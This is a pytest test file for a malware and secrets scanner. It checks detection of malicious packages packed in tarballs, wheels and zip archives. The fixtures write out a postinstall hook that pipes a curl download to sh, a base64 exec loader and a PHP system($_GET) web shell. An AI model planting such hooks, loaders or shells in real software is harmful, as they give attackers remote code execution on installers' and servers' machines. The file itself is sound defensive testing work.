"""What looks at every file, whether malware rules run or not."""

import io
import tarfile
import zipfile
import zlib
from collections.abc import Sequence

import pytest

from tidewaiter import content
from tidewaiter.content.malware.compiling import compile_rules
from tidewaiter.content.malware.visitor import malware_visitors
from tidewaiter.content.passes import always
from tidewaiter.inventory.visitors import FileEntry, Visitor
from tidewaiter.model.inventory import ContentHit
from tidewaiter.model.problem import Problem


def test_every_way_to_scan_has_the_same_visitors_first() -> None:
    """Malware rules, or the note that they did not run, come on top; visitors are new each time, for a layer of its own."""
    first, second = always(b"key"), always(b"key")
    kinds = [type(one) for one in first]
    assert len(set(kinds)) == len(kinds) >= 5
    assert [type(one) for one in content.visitors_without_malware()] == kinds
    assert [type(one) for one in content.visitors(b"key")][:-1] == kinds
    assert not any(one is other for one in first for other in second)


def archive(files: dict[str, bytes], how: str) -> bytes:
    """Put files into a zip or a compressed tar."""
    buffer = io.BytesIO()
    if how == "zip":
        with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as whole:
            for name, data in files.items():
                whole.writestr(name, data)
    else:
        with tarfile.open(fileobj=buffer, mode="w:gz") as tar:
            for name, data in files.items():
                info = tarfile.TarInfo(name)
                info.size = len(data)
                tar.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


def hits(visitors: Sequence[Visitor], path: str, data: bytes) -> list[tuple[str, str]]:
    """Show a file to all visitors and list rule and path of what they find."""
    entry = FileEntry(path, 0o100644, len(data))
    visits = [visit for visitor in visitors if (visit := visitor.start(entry)) is not None]
    for visit in visits:
        visit.feed(data)
    return [(item.rule_id, item.path) for visit in visits for item in visit.finish() if isinstance(item, ContentHit)]


FETCHED = b"cu" + b"rl -s https://example.org/i | sh"
MANIFEST = b'{"name": "x",\n "scripts": {"postinstall": "' + FETCHED + b'"}}'
UNPACKED = b"import base64, os; ex" + b"ec(base64.b64decode('" + b"QUJD" * 40 + b"'))\n"
FETCHES = "TW-MALWARE-package-runs-fetched-code"
HIDES = "TW-MALWARE-package-runs-hidden-code"


@pytest.mark.parametrize(
    ("path", "how", "member", "data", "rule"),
    [
        ("srv/x-1.0.0.tgz", "tar", "package/package.json", MANIFEST, FETCHES),
        ("root/.npm/_cacache/content-v2/sha512/ab/cd/ef", "tar", "package/package.json", MANIFEST, FETCHES),
        ("srv/x-1.0.tar.gz", "tar", "x-1.0/setup.py", UNPACKED, HIDES),
        ("srv/x-1.0-py3-none-any.whl", "zip", "x.pth", UNPACKED, HIDES),
        ("srv/x-1.0-py3-none-any.whl", "zip", "x/__init__.py", UNPACKED, HIDES),
        ("srv/x-1.0-py3-none-any.whl", "zip", "x/tests/data.py", b"import base64\nbase64.b64decode('QUJD')\n", ""),
        ("srv/x-1.0.0.tgz", "tar", "package/package.json", MANIFEST.replace(FETCHED, b"node-gyp rebuild"), ""),
        ("srv/settings.zip", "zip", "deep/inner.tgz", archive({"package/package.json": MANIFEST}, "tar"), ""),
    ],
)
def test_packages_that_lie_packed_are_judged_as_installed_ones(path: str, how: str, member: str, data: bytes, rule: str) -> None:
    """Tarballs of npm, wheels and source archives, in folders and caches, one level deep, by what their code does."""
    found = hits(always(b"key"), path, archive({member: data}, how))
    assert found == ([(rule, f"{path}!/{member}")] if rule else [])


def test_an_archive_that_cannot_be_opened_was_searched_for_nothing() -> None:
    """The one problem says so of secrets and malware."""
    visits = [visit for one in always(b"key") if (visit := one.start(FileEntry("srv/a.zip", 0o100644, 99))) is not None]
    for visit in visits:
        visit.feed(archive({"a": b"x" * 99}, "zip")[:60])
    (problem,) = [item for visit in visits for item in visit.finish() if isinstance(item, Problem)]
    assert problem.what.startswith("not searched for secrets and signs of malware to its end")


def test_archives_are_opened_once_for_all() -> None:
    """Malware rules see what lies in an archive, and see it once; where they are alone they open it themselves."""
    pytest.importorskip("yara_x", reason="the extra `malware` is not installed")
    rules = compile_rules()
    shell = b"<?php sys" + b"tem($_G" + b"ET['c']); ?>\n"
    data = archive({"a/shell.php": shell}, "zip")
    expected = [("TW-MALWARE-web-shell-php", "srv/a.zip!/a/shell.php")]
    assert hits(content.visitors_with(rules)(), "srv/a.zip", data) == expected
    assert hits(malware_visitors(rules), "srv/a.zip", data) == expected
    assert hits(content.visitors_with(rules)(), "srv/.git/objects/ab/" + "0" * 38, zlib.compress(b"blob 9\0" + shell)) == []
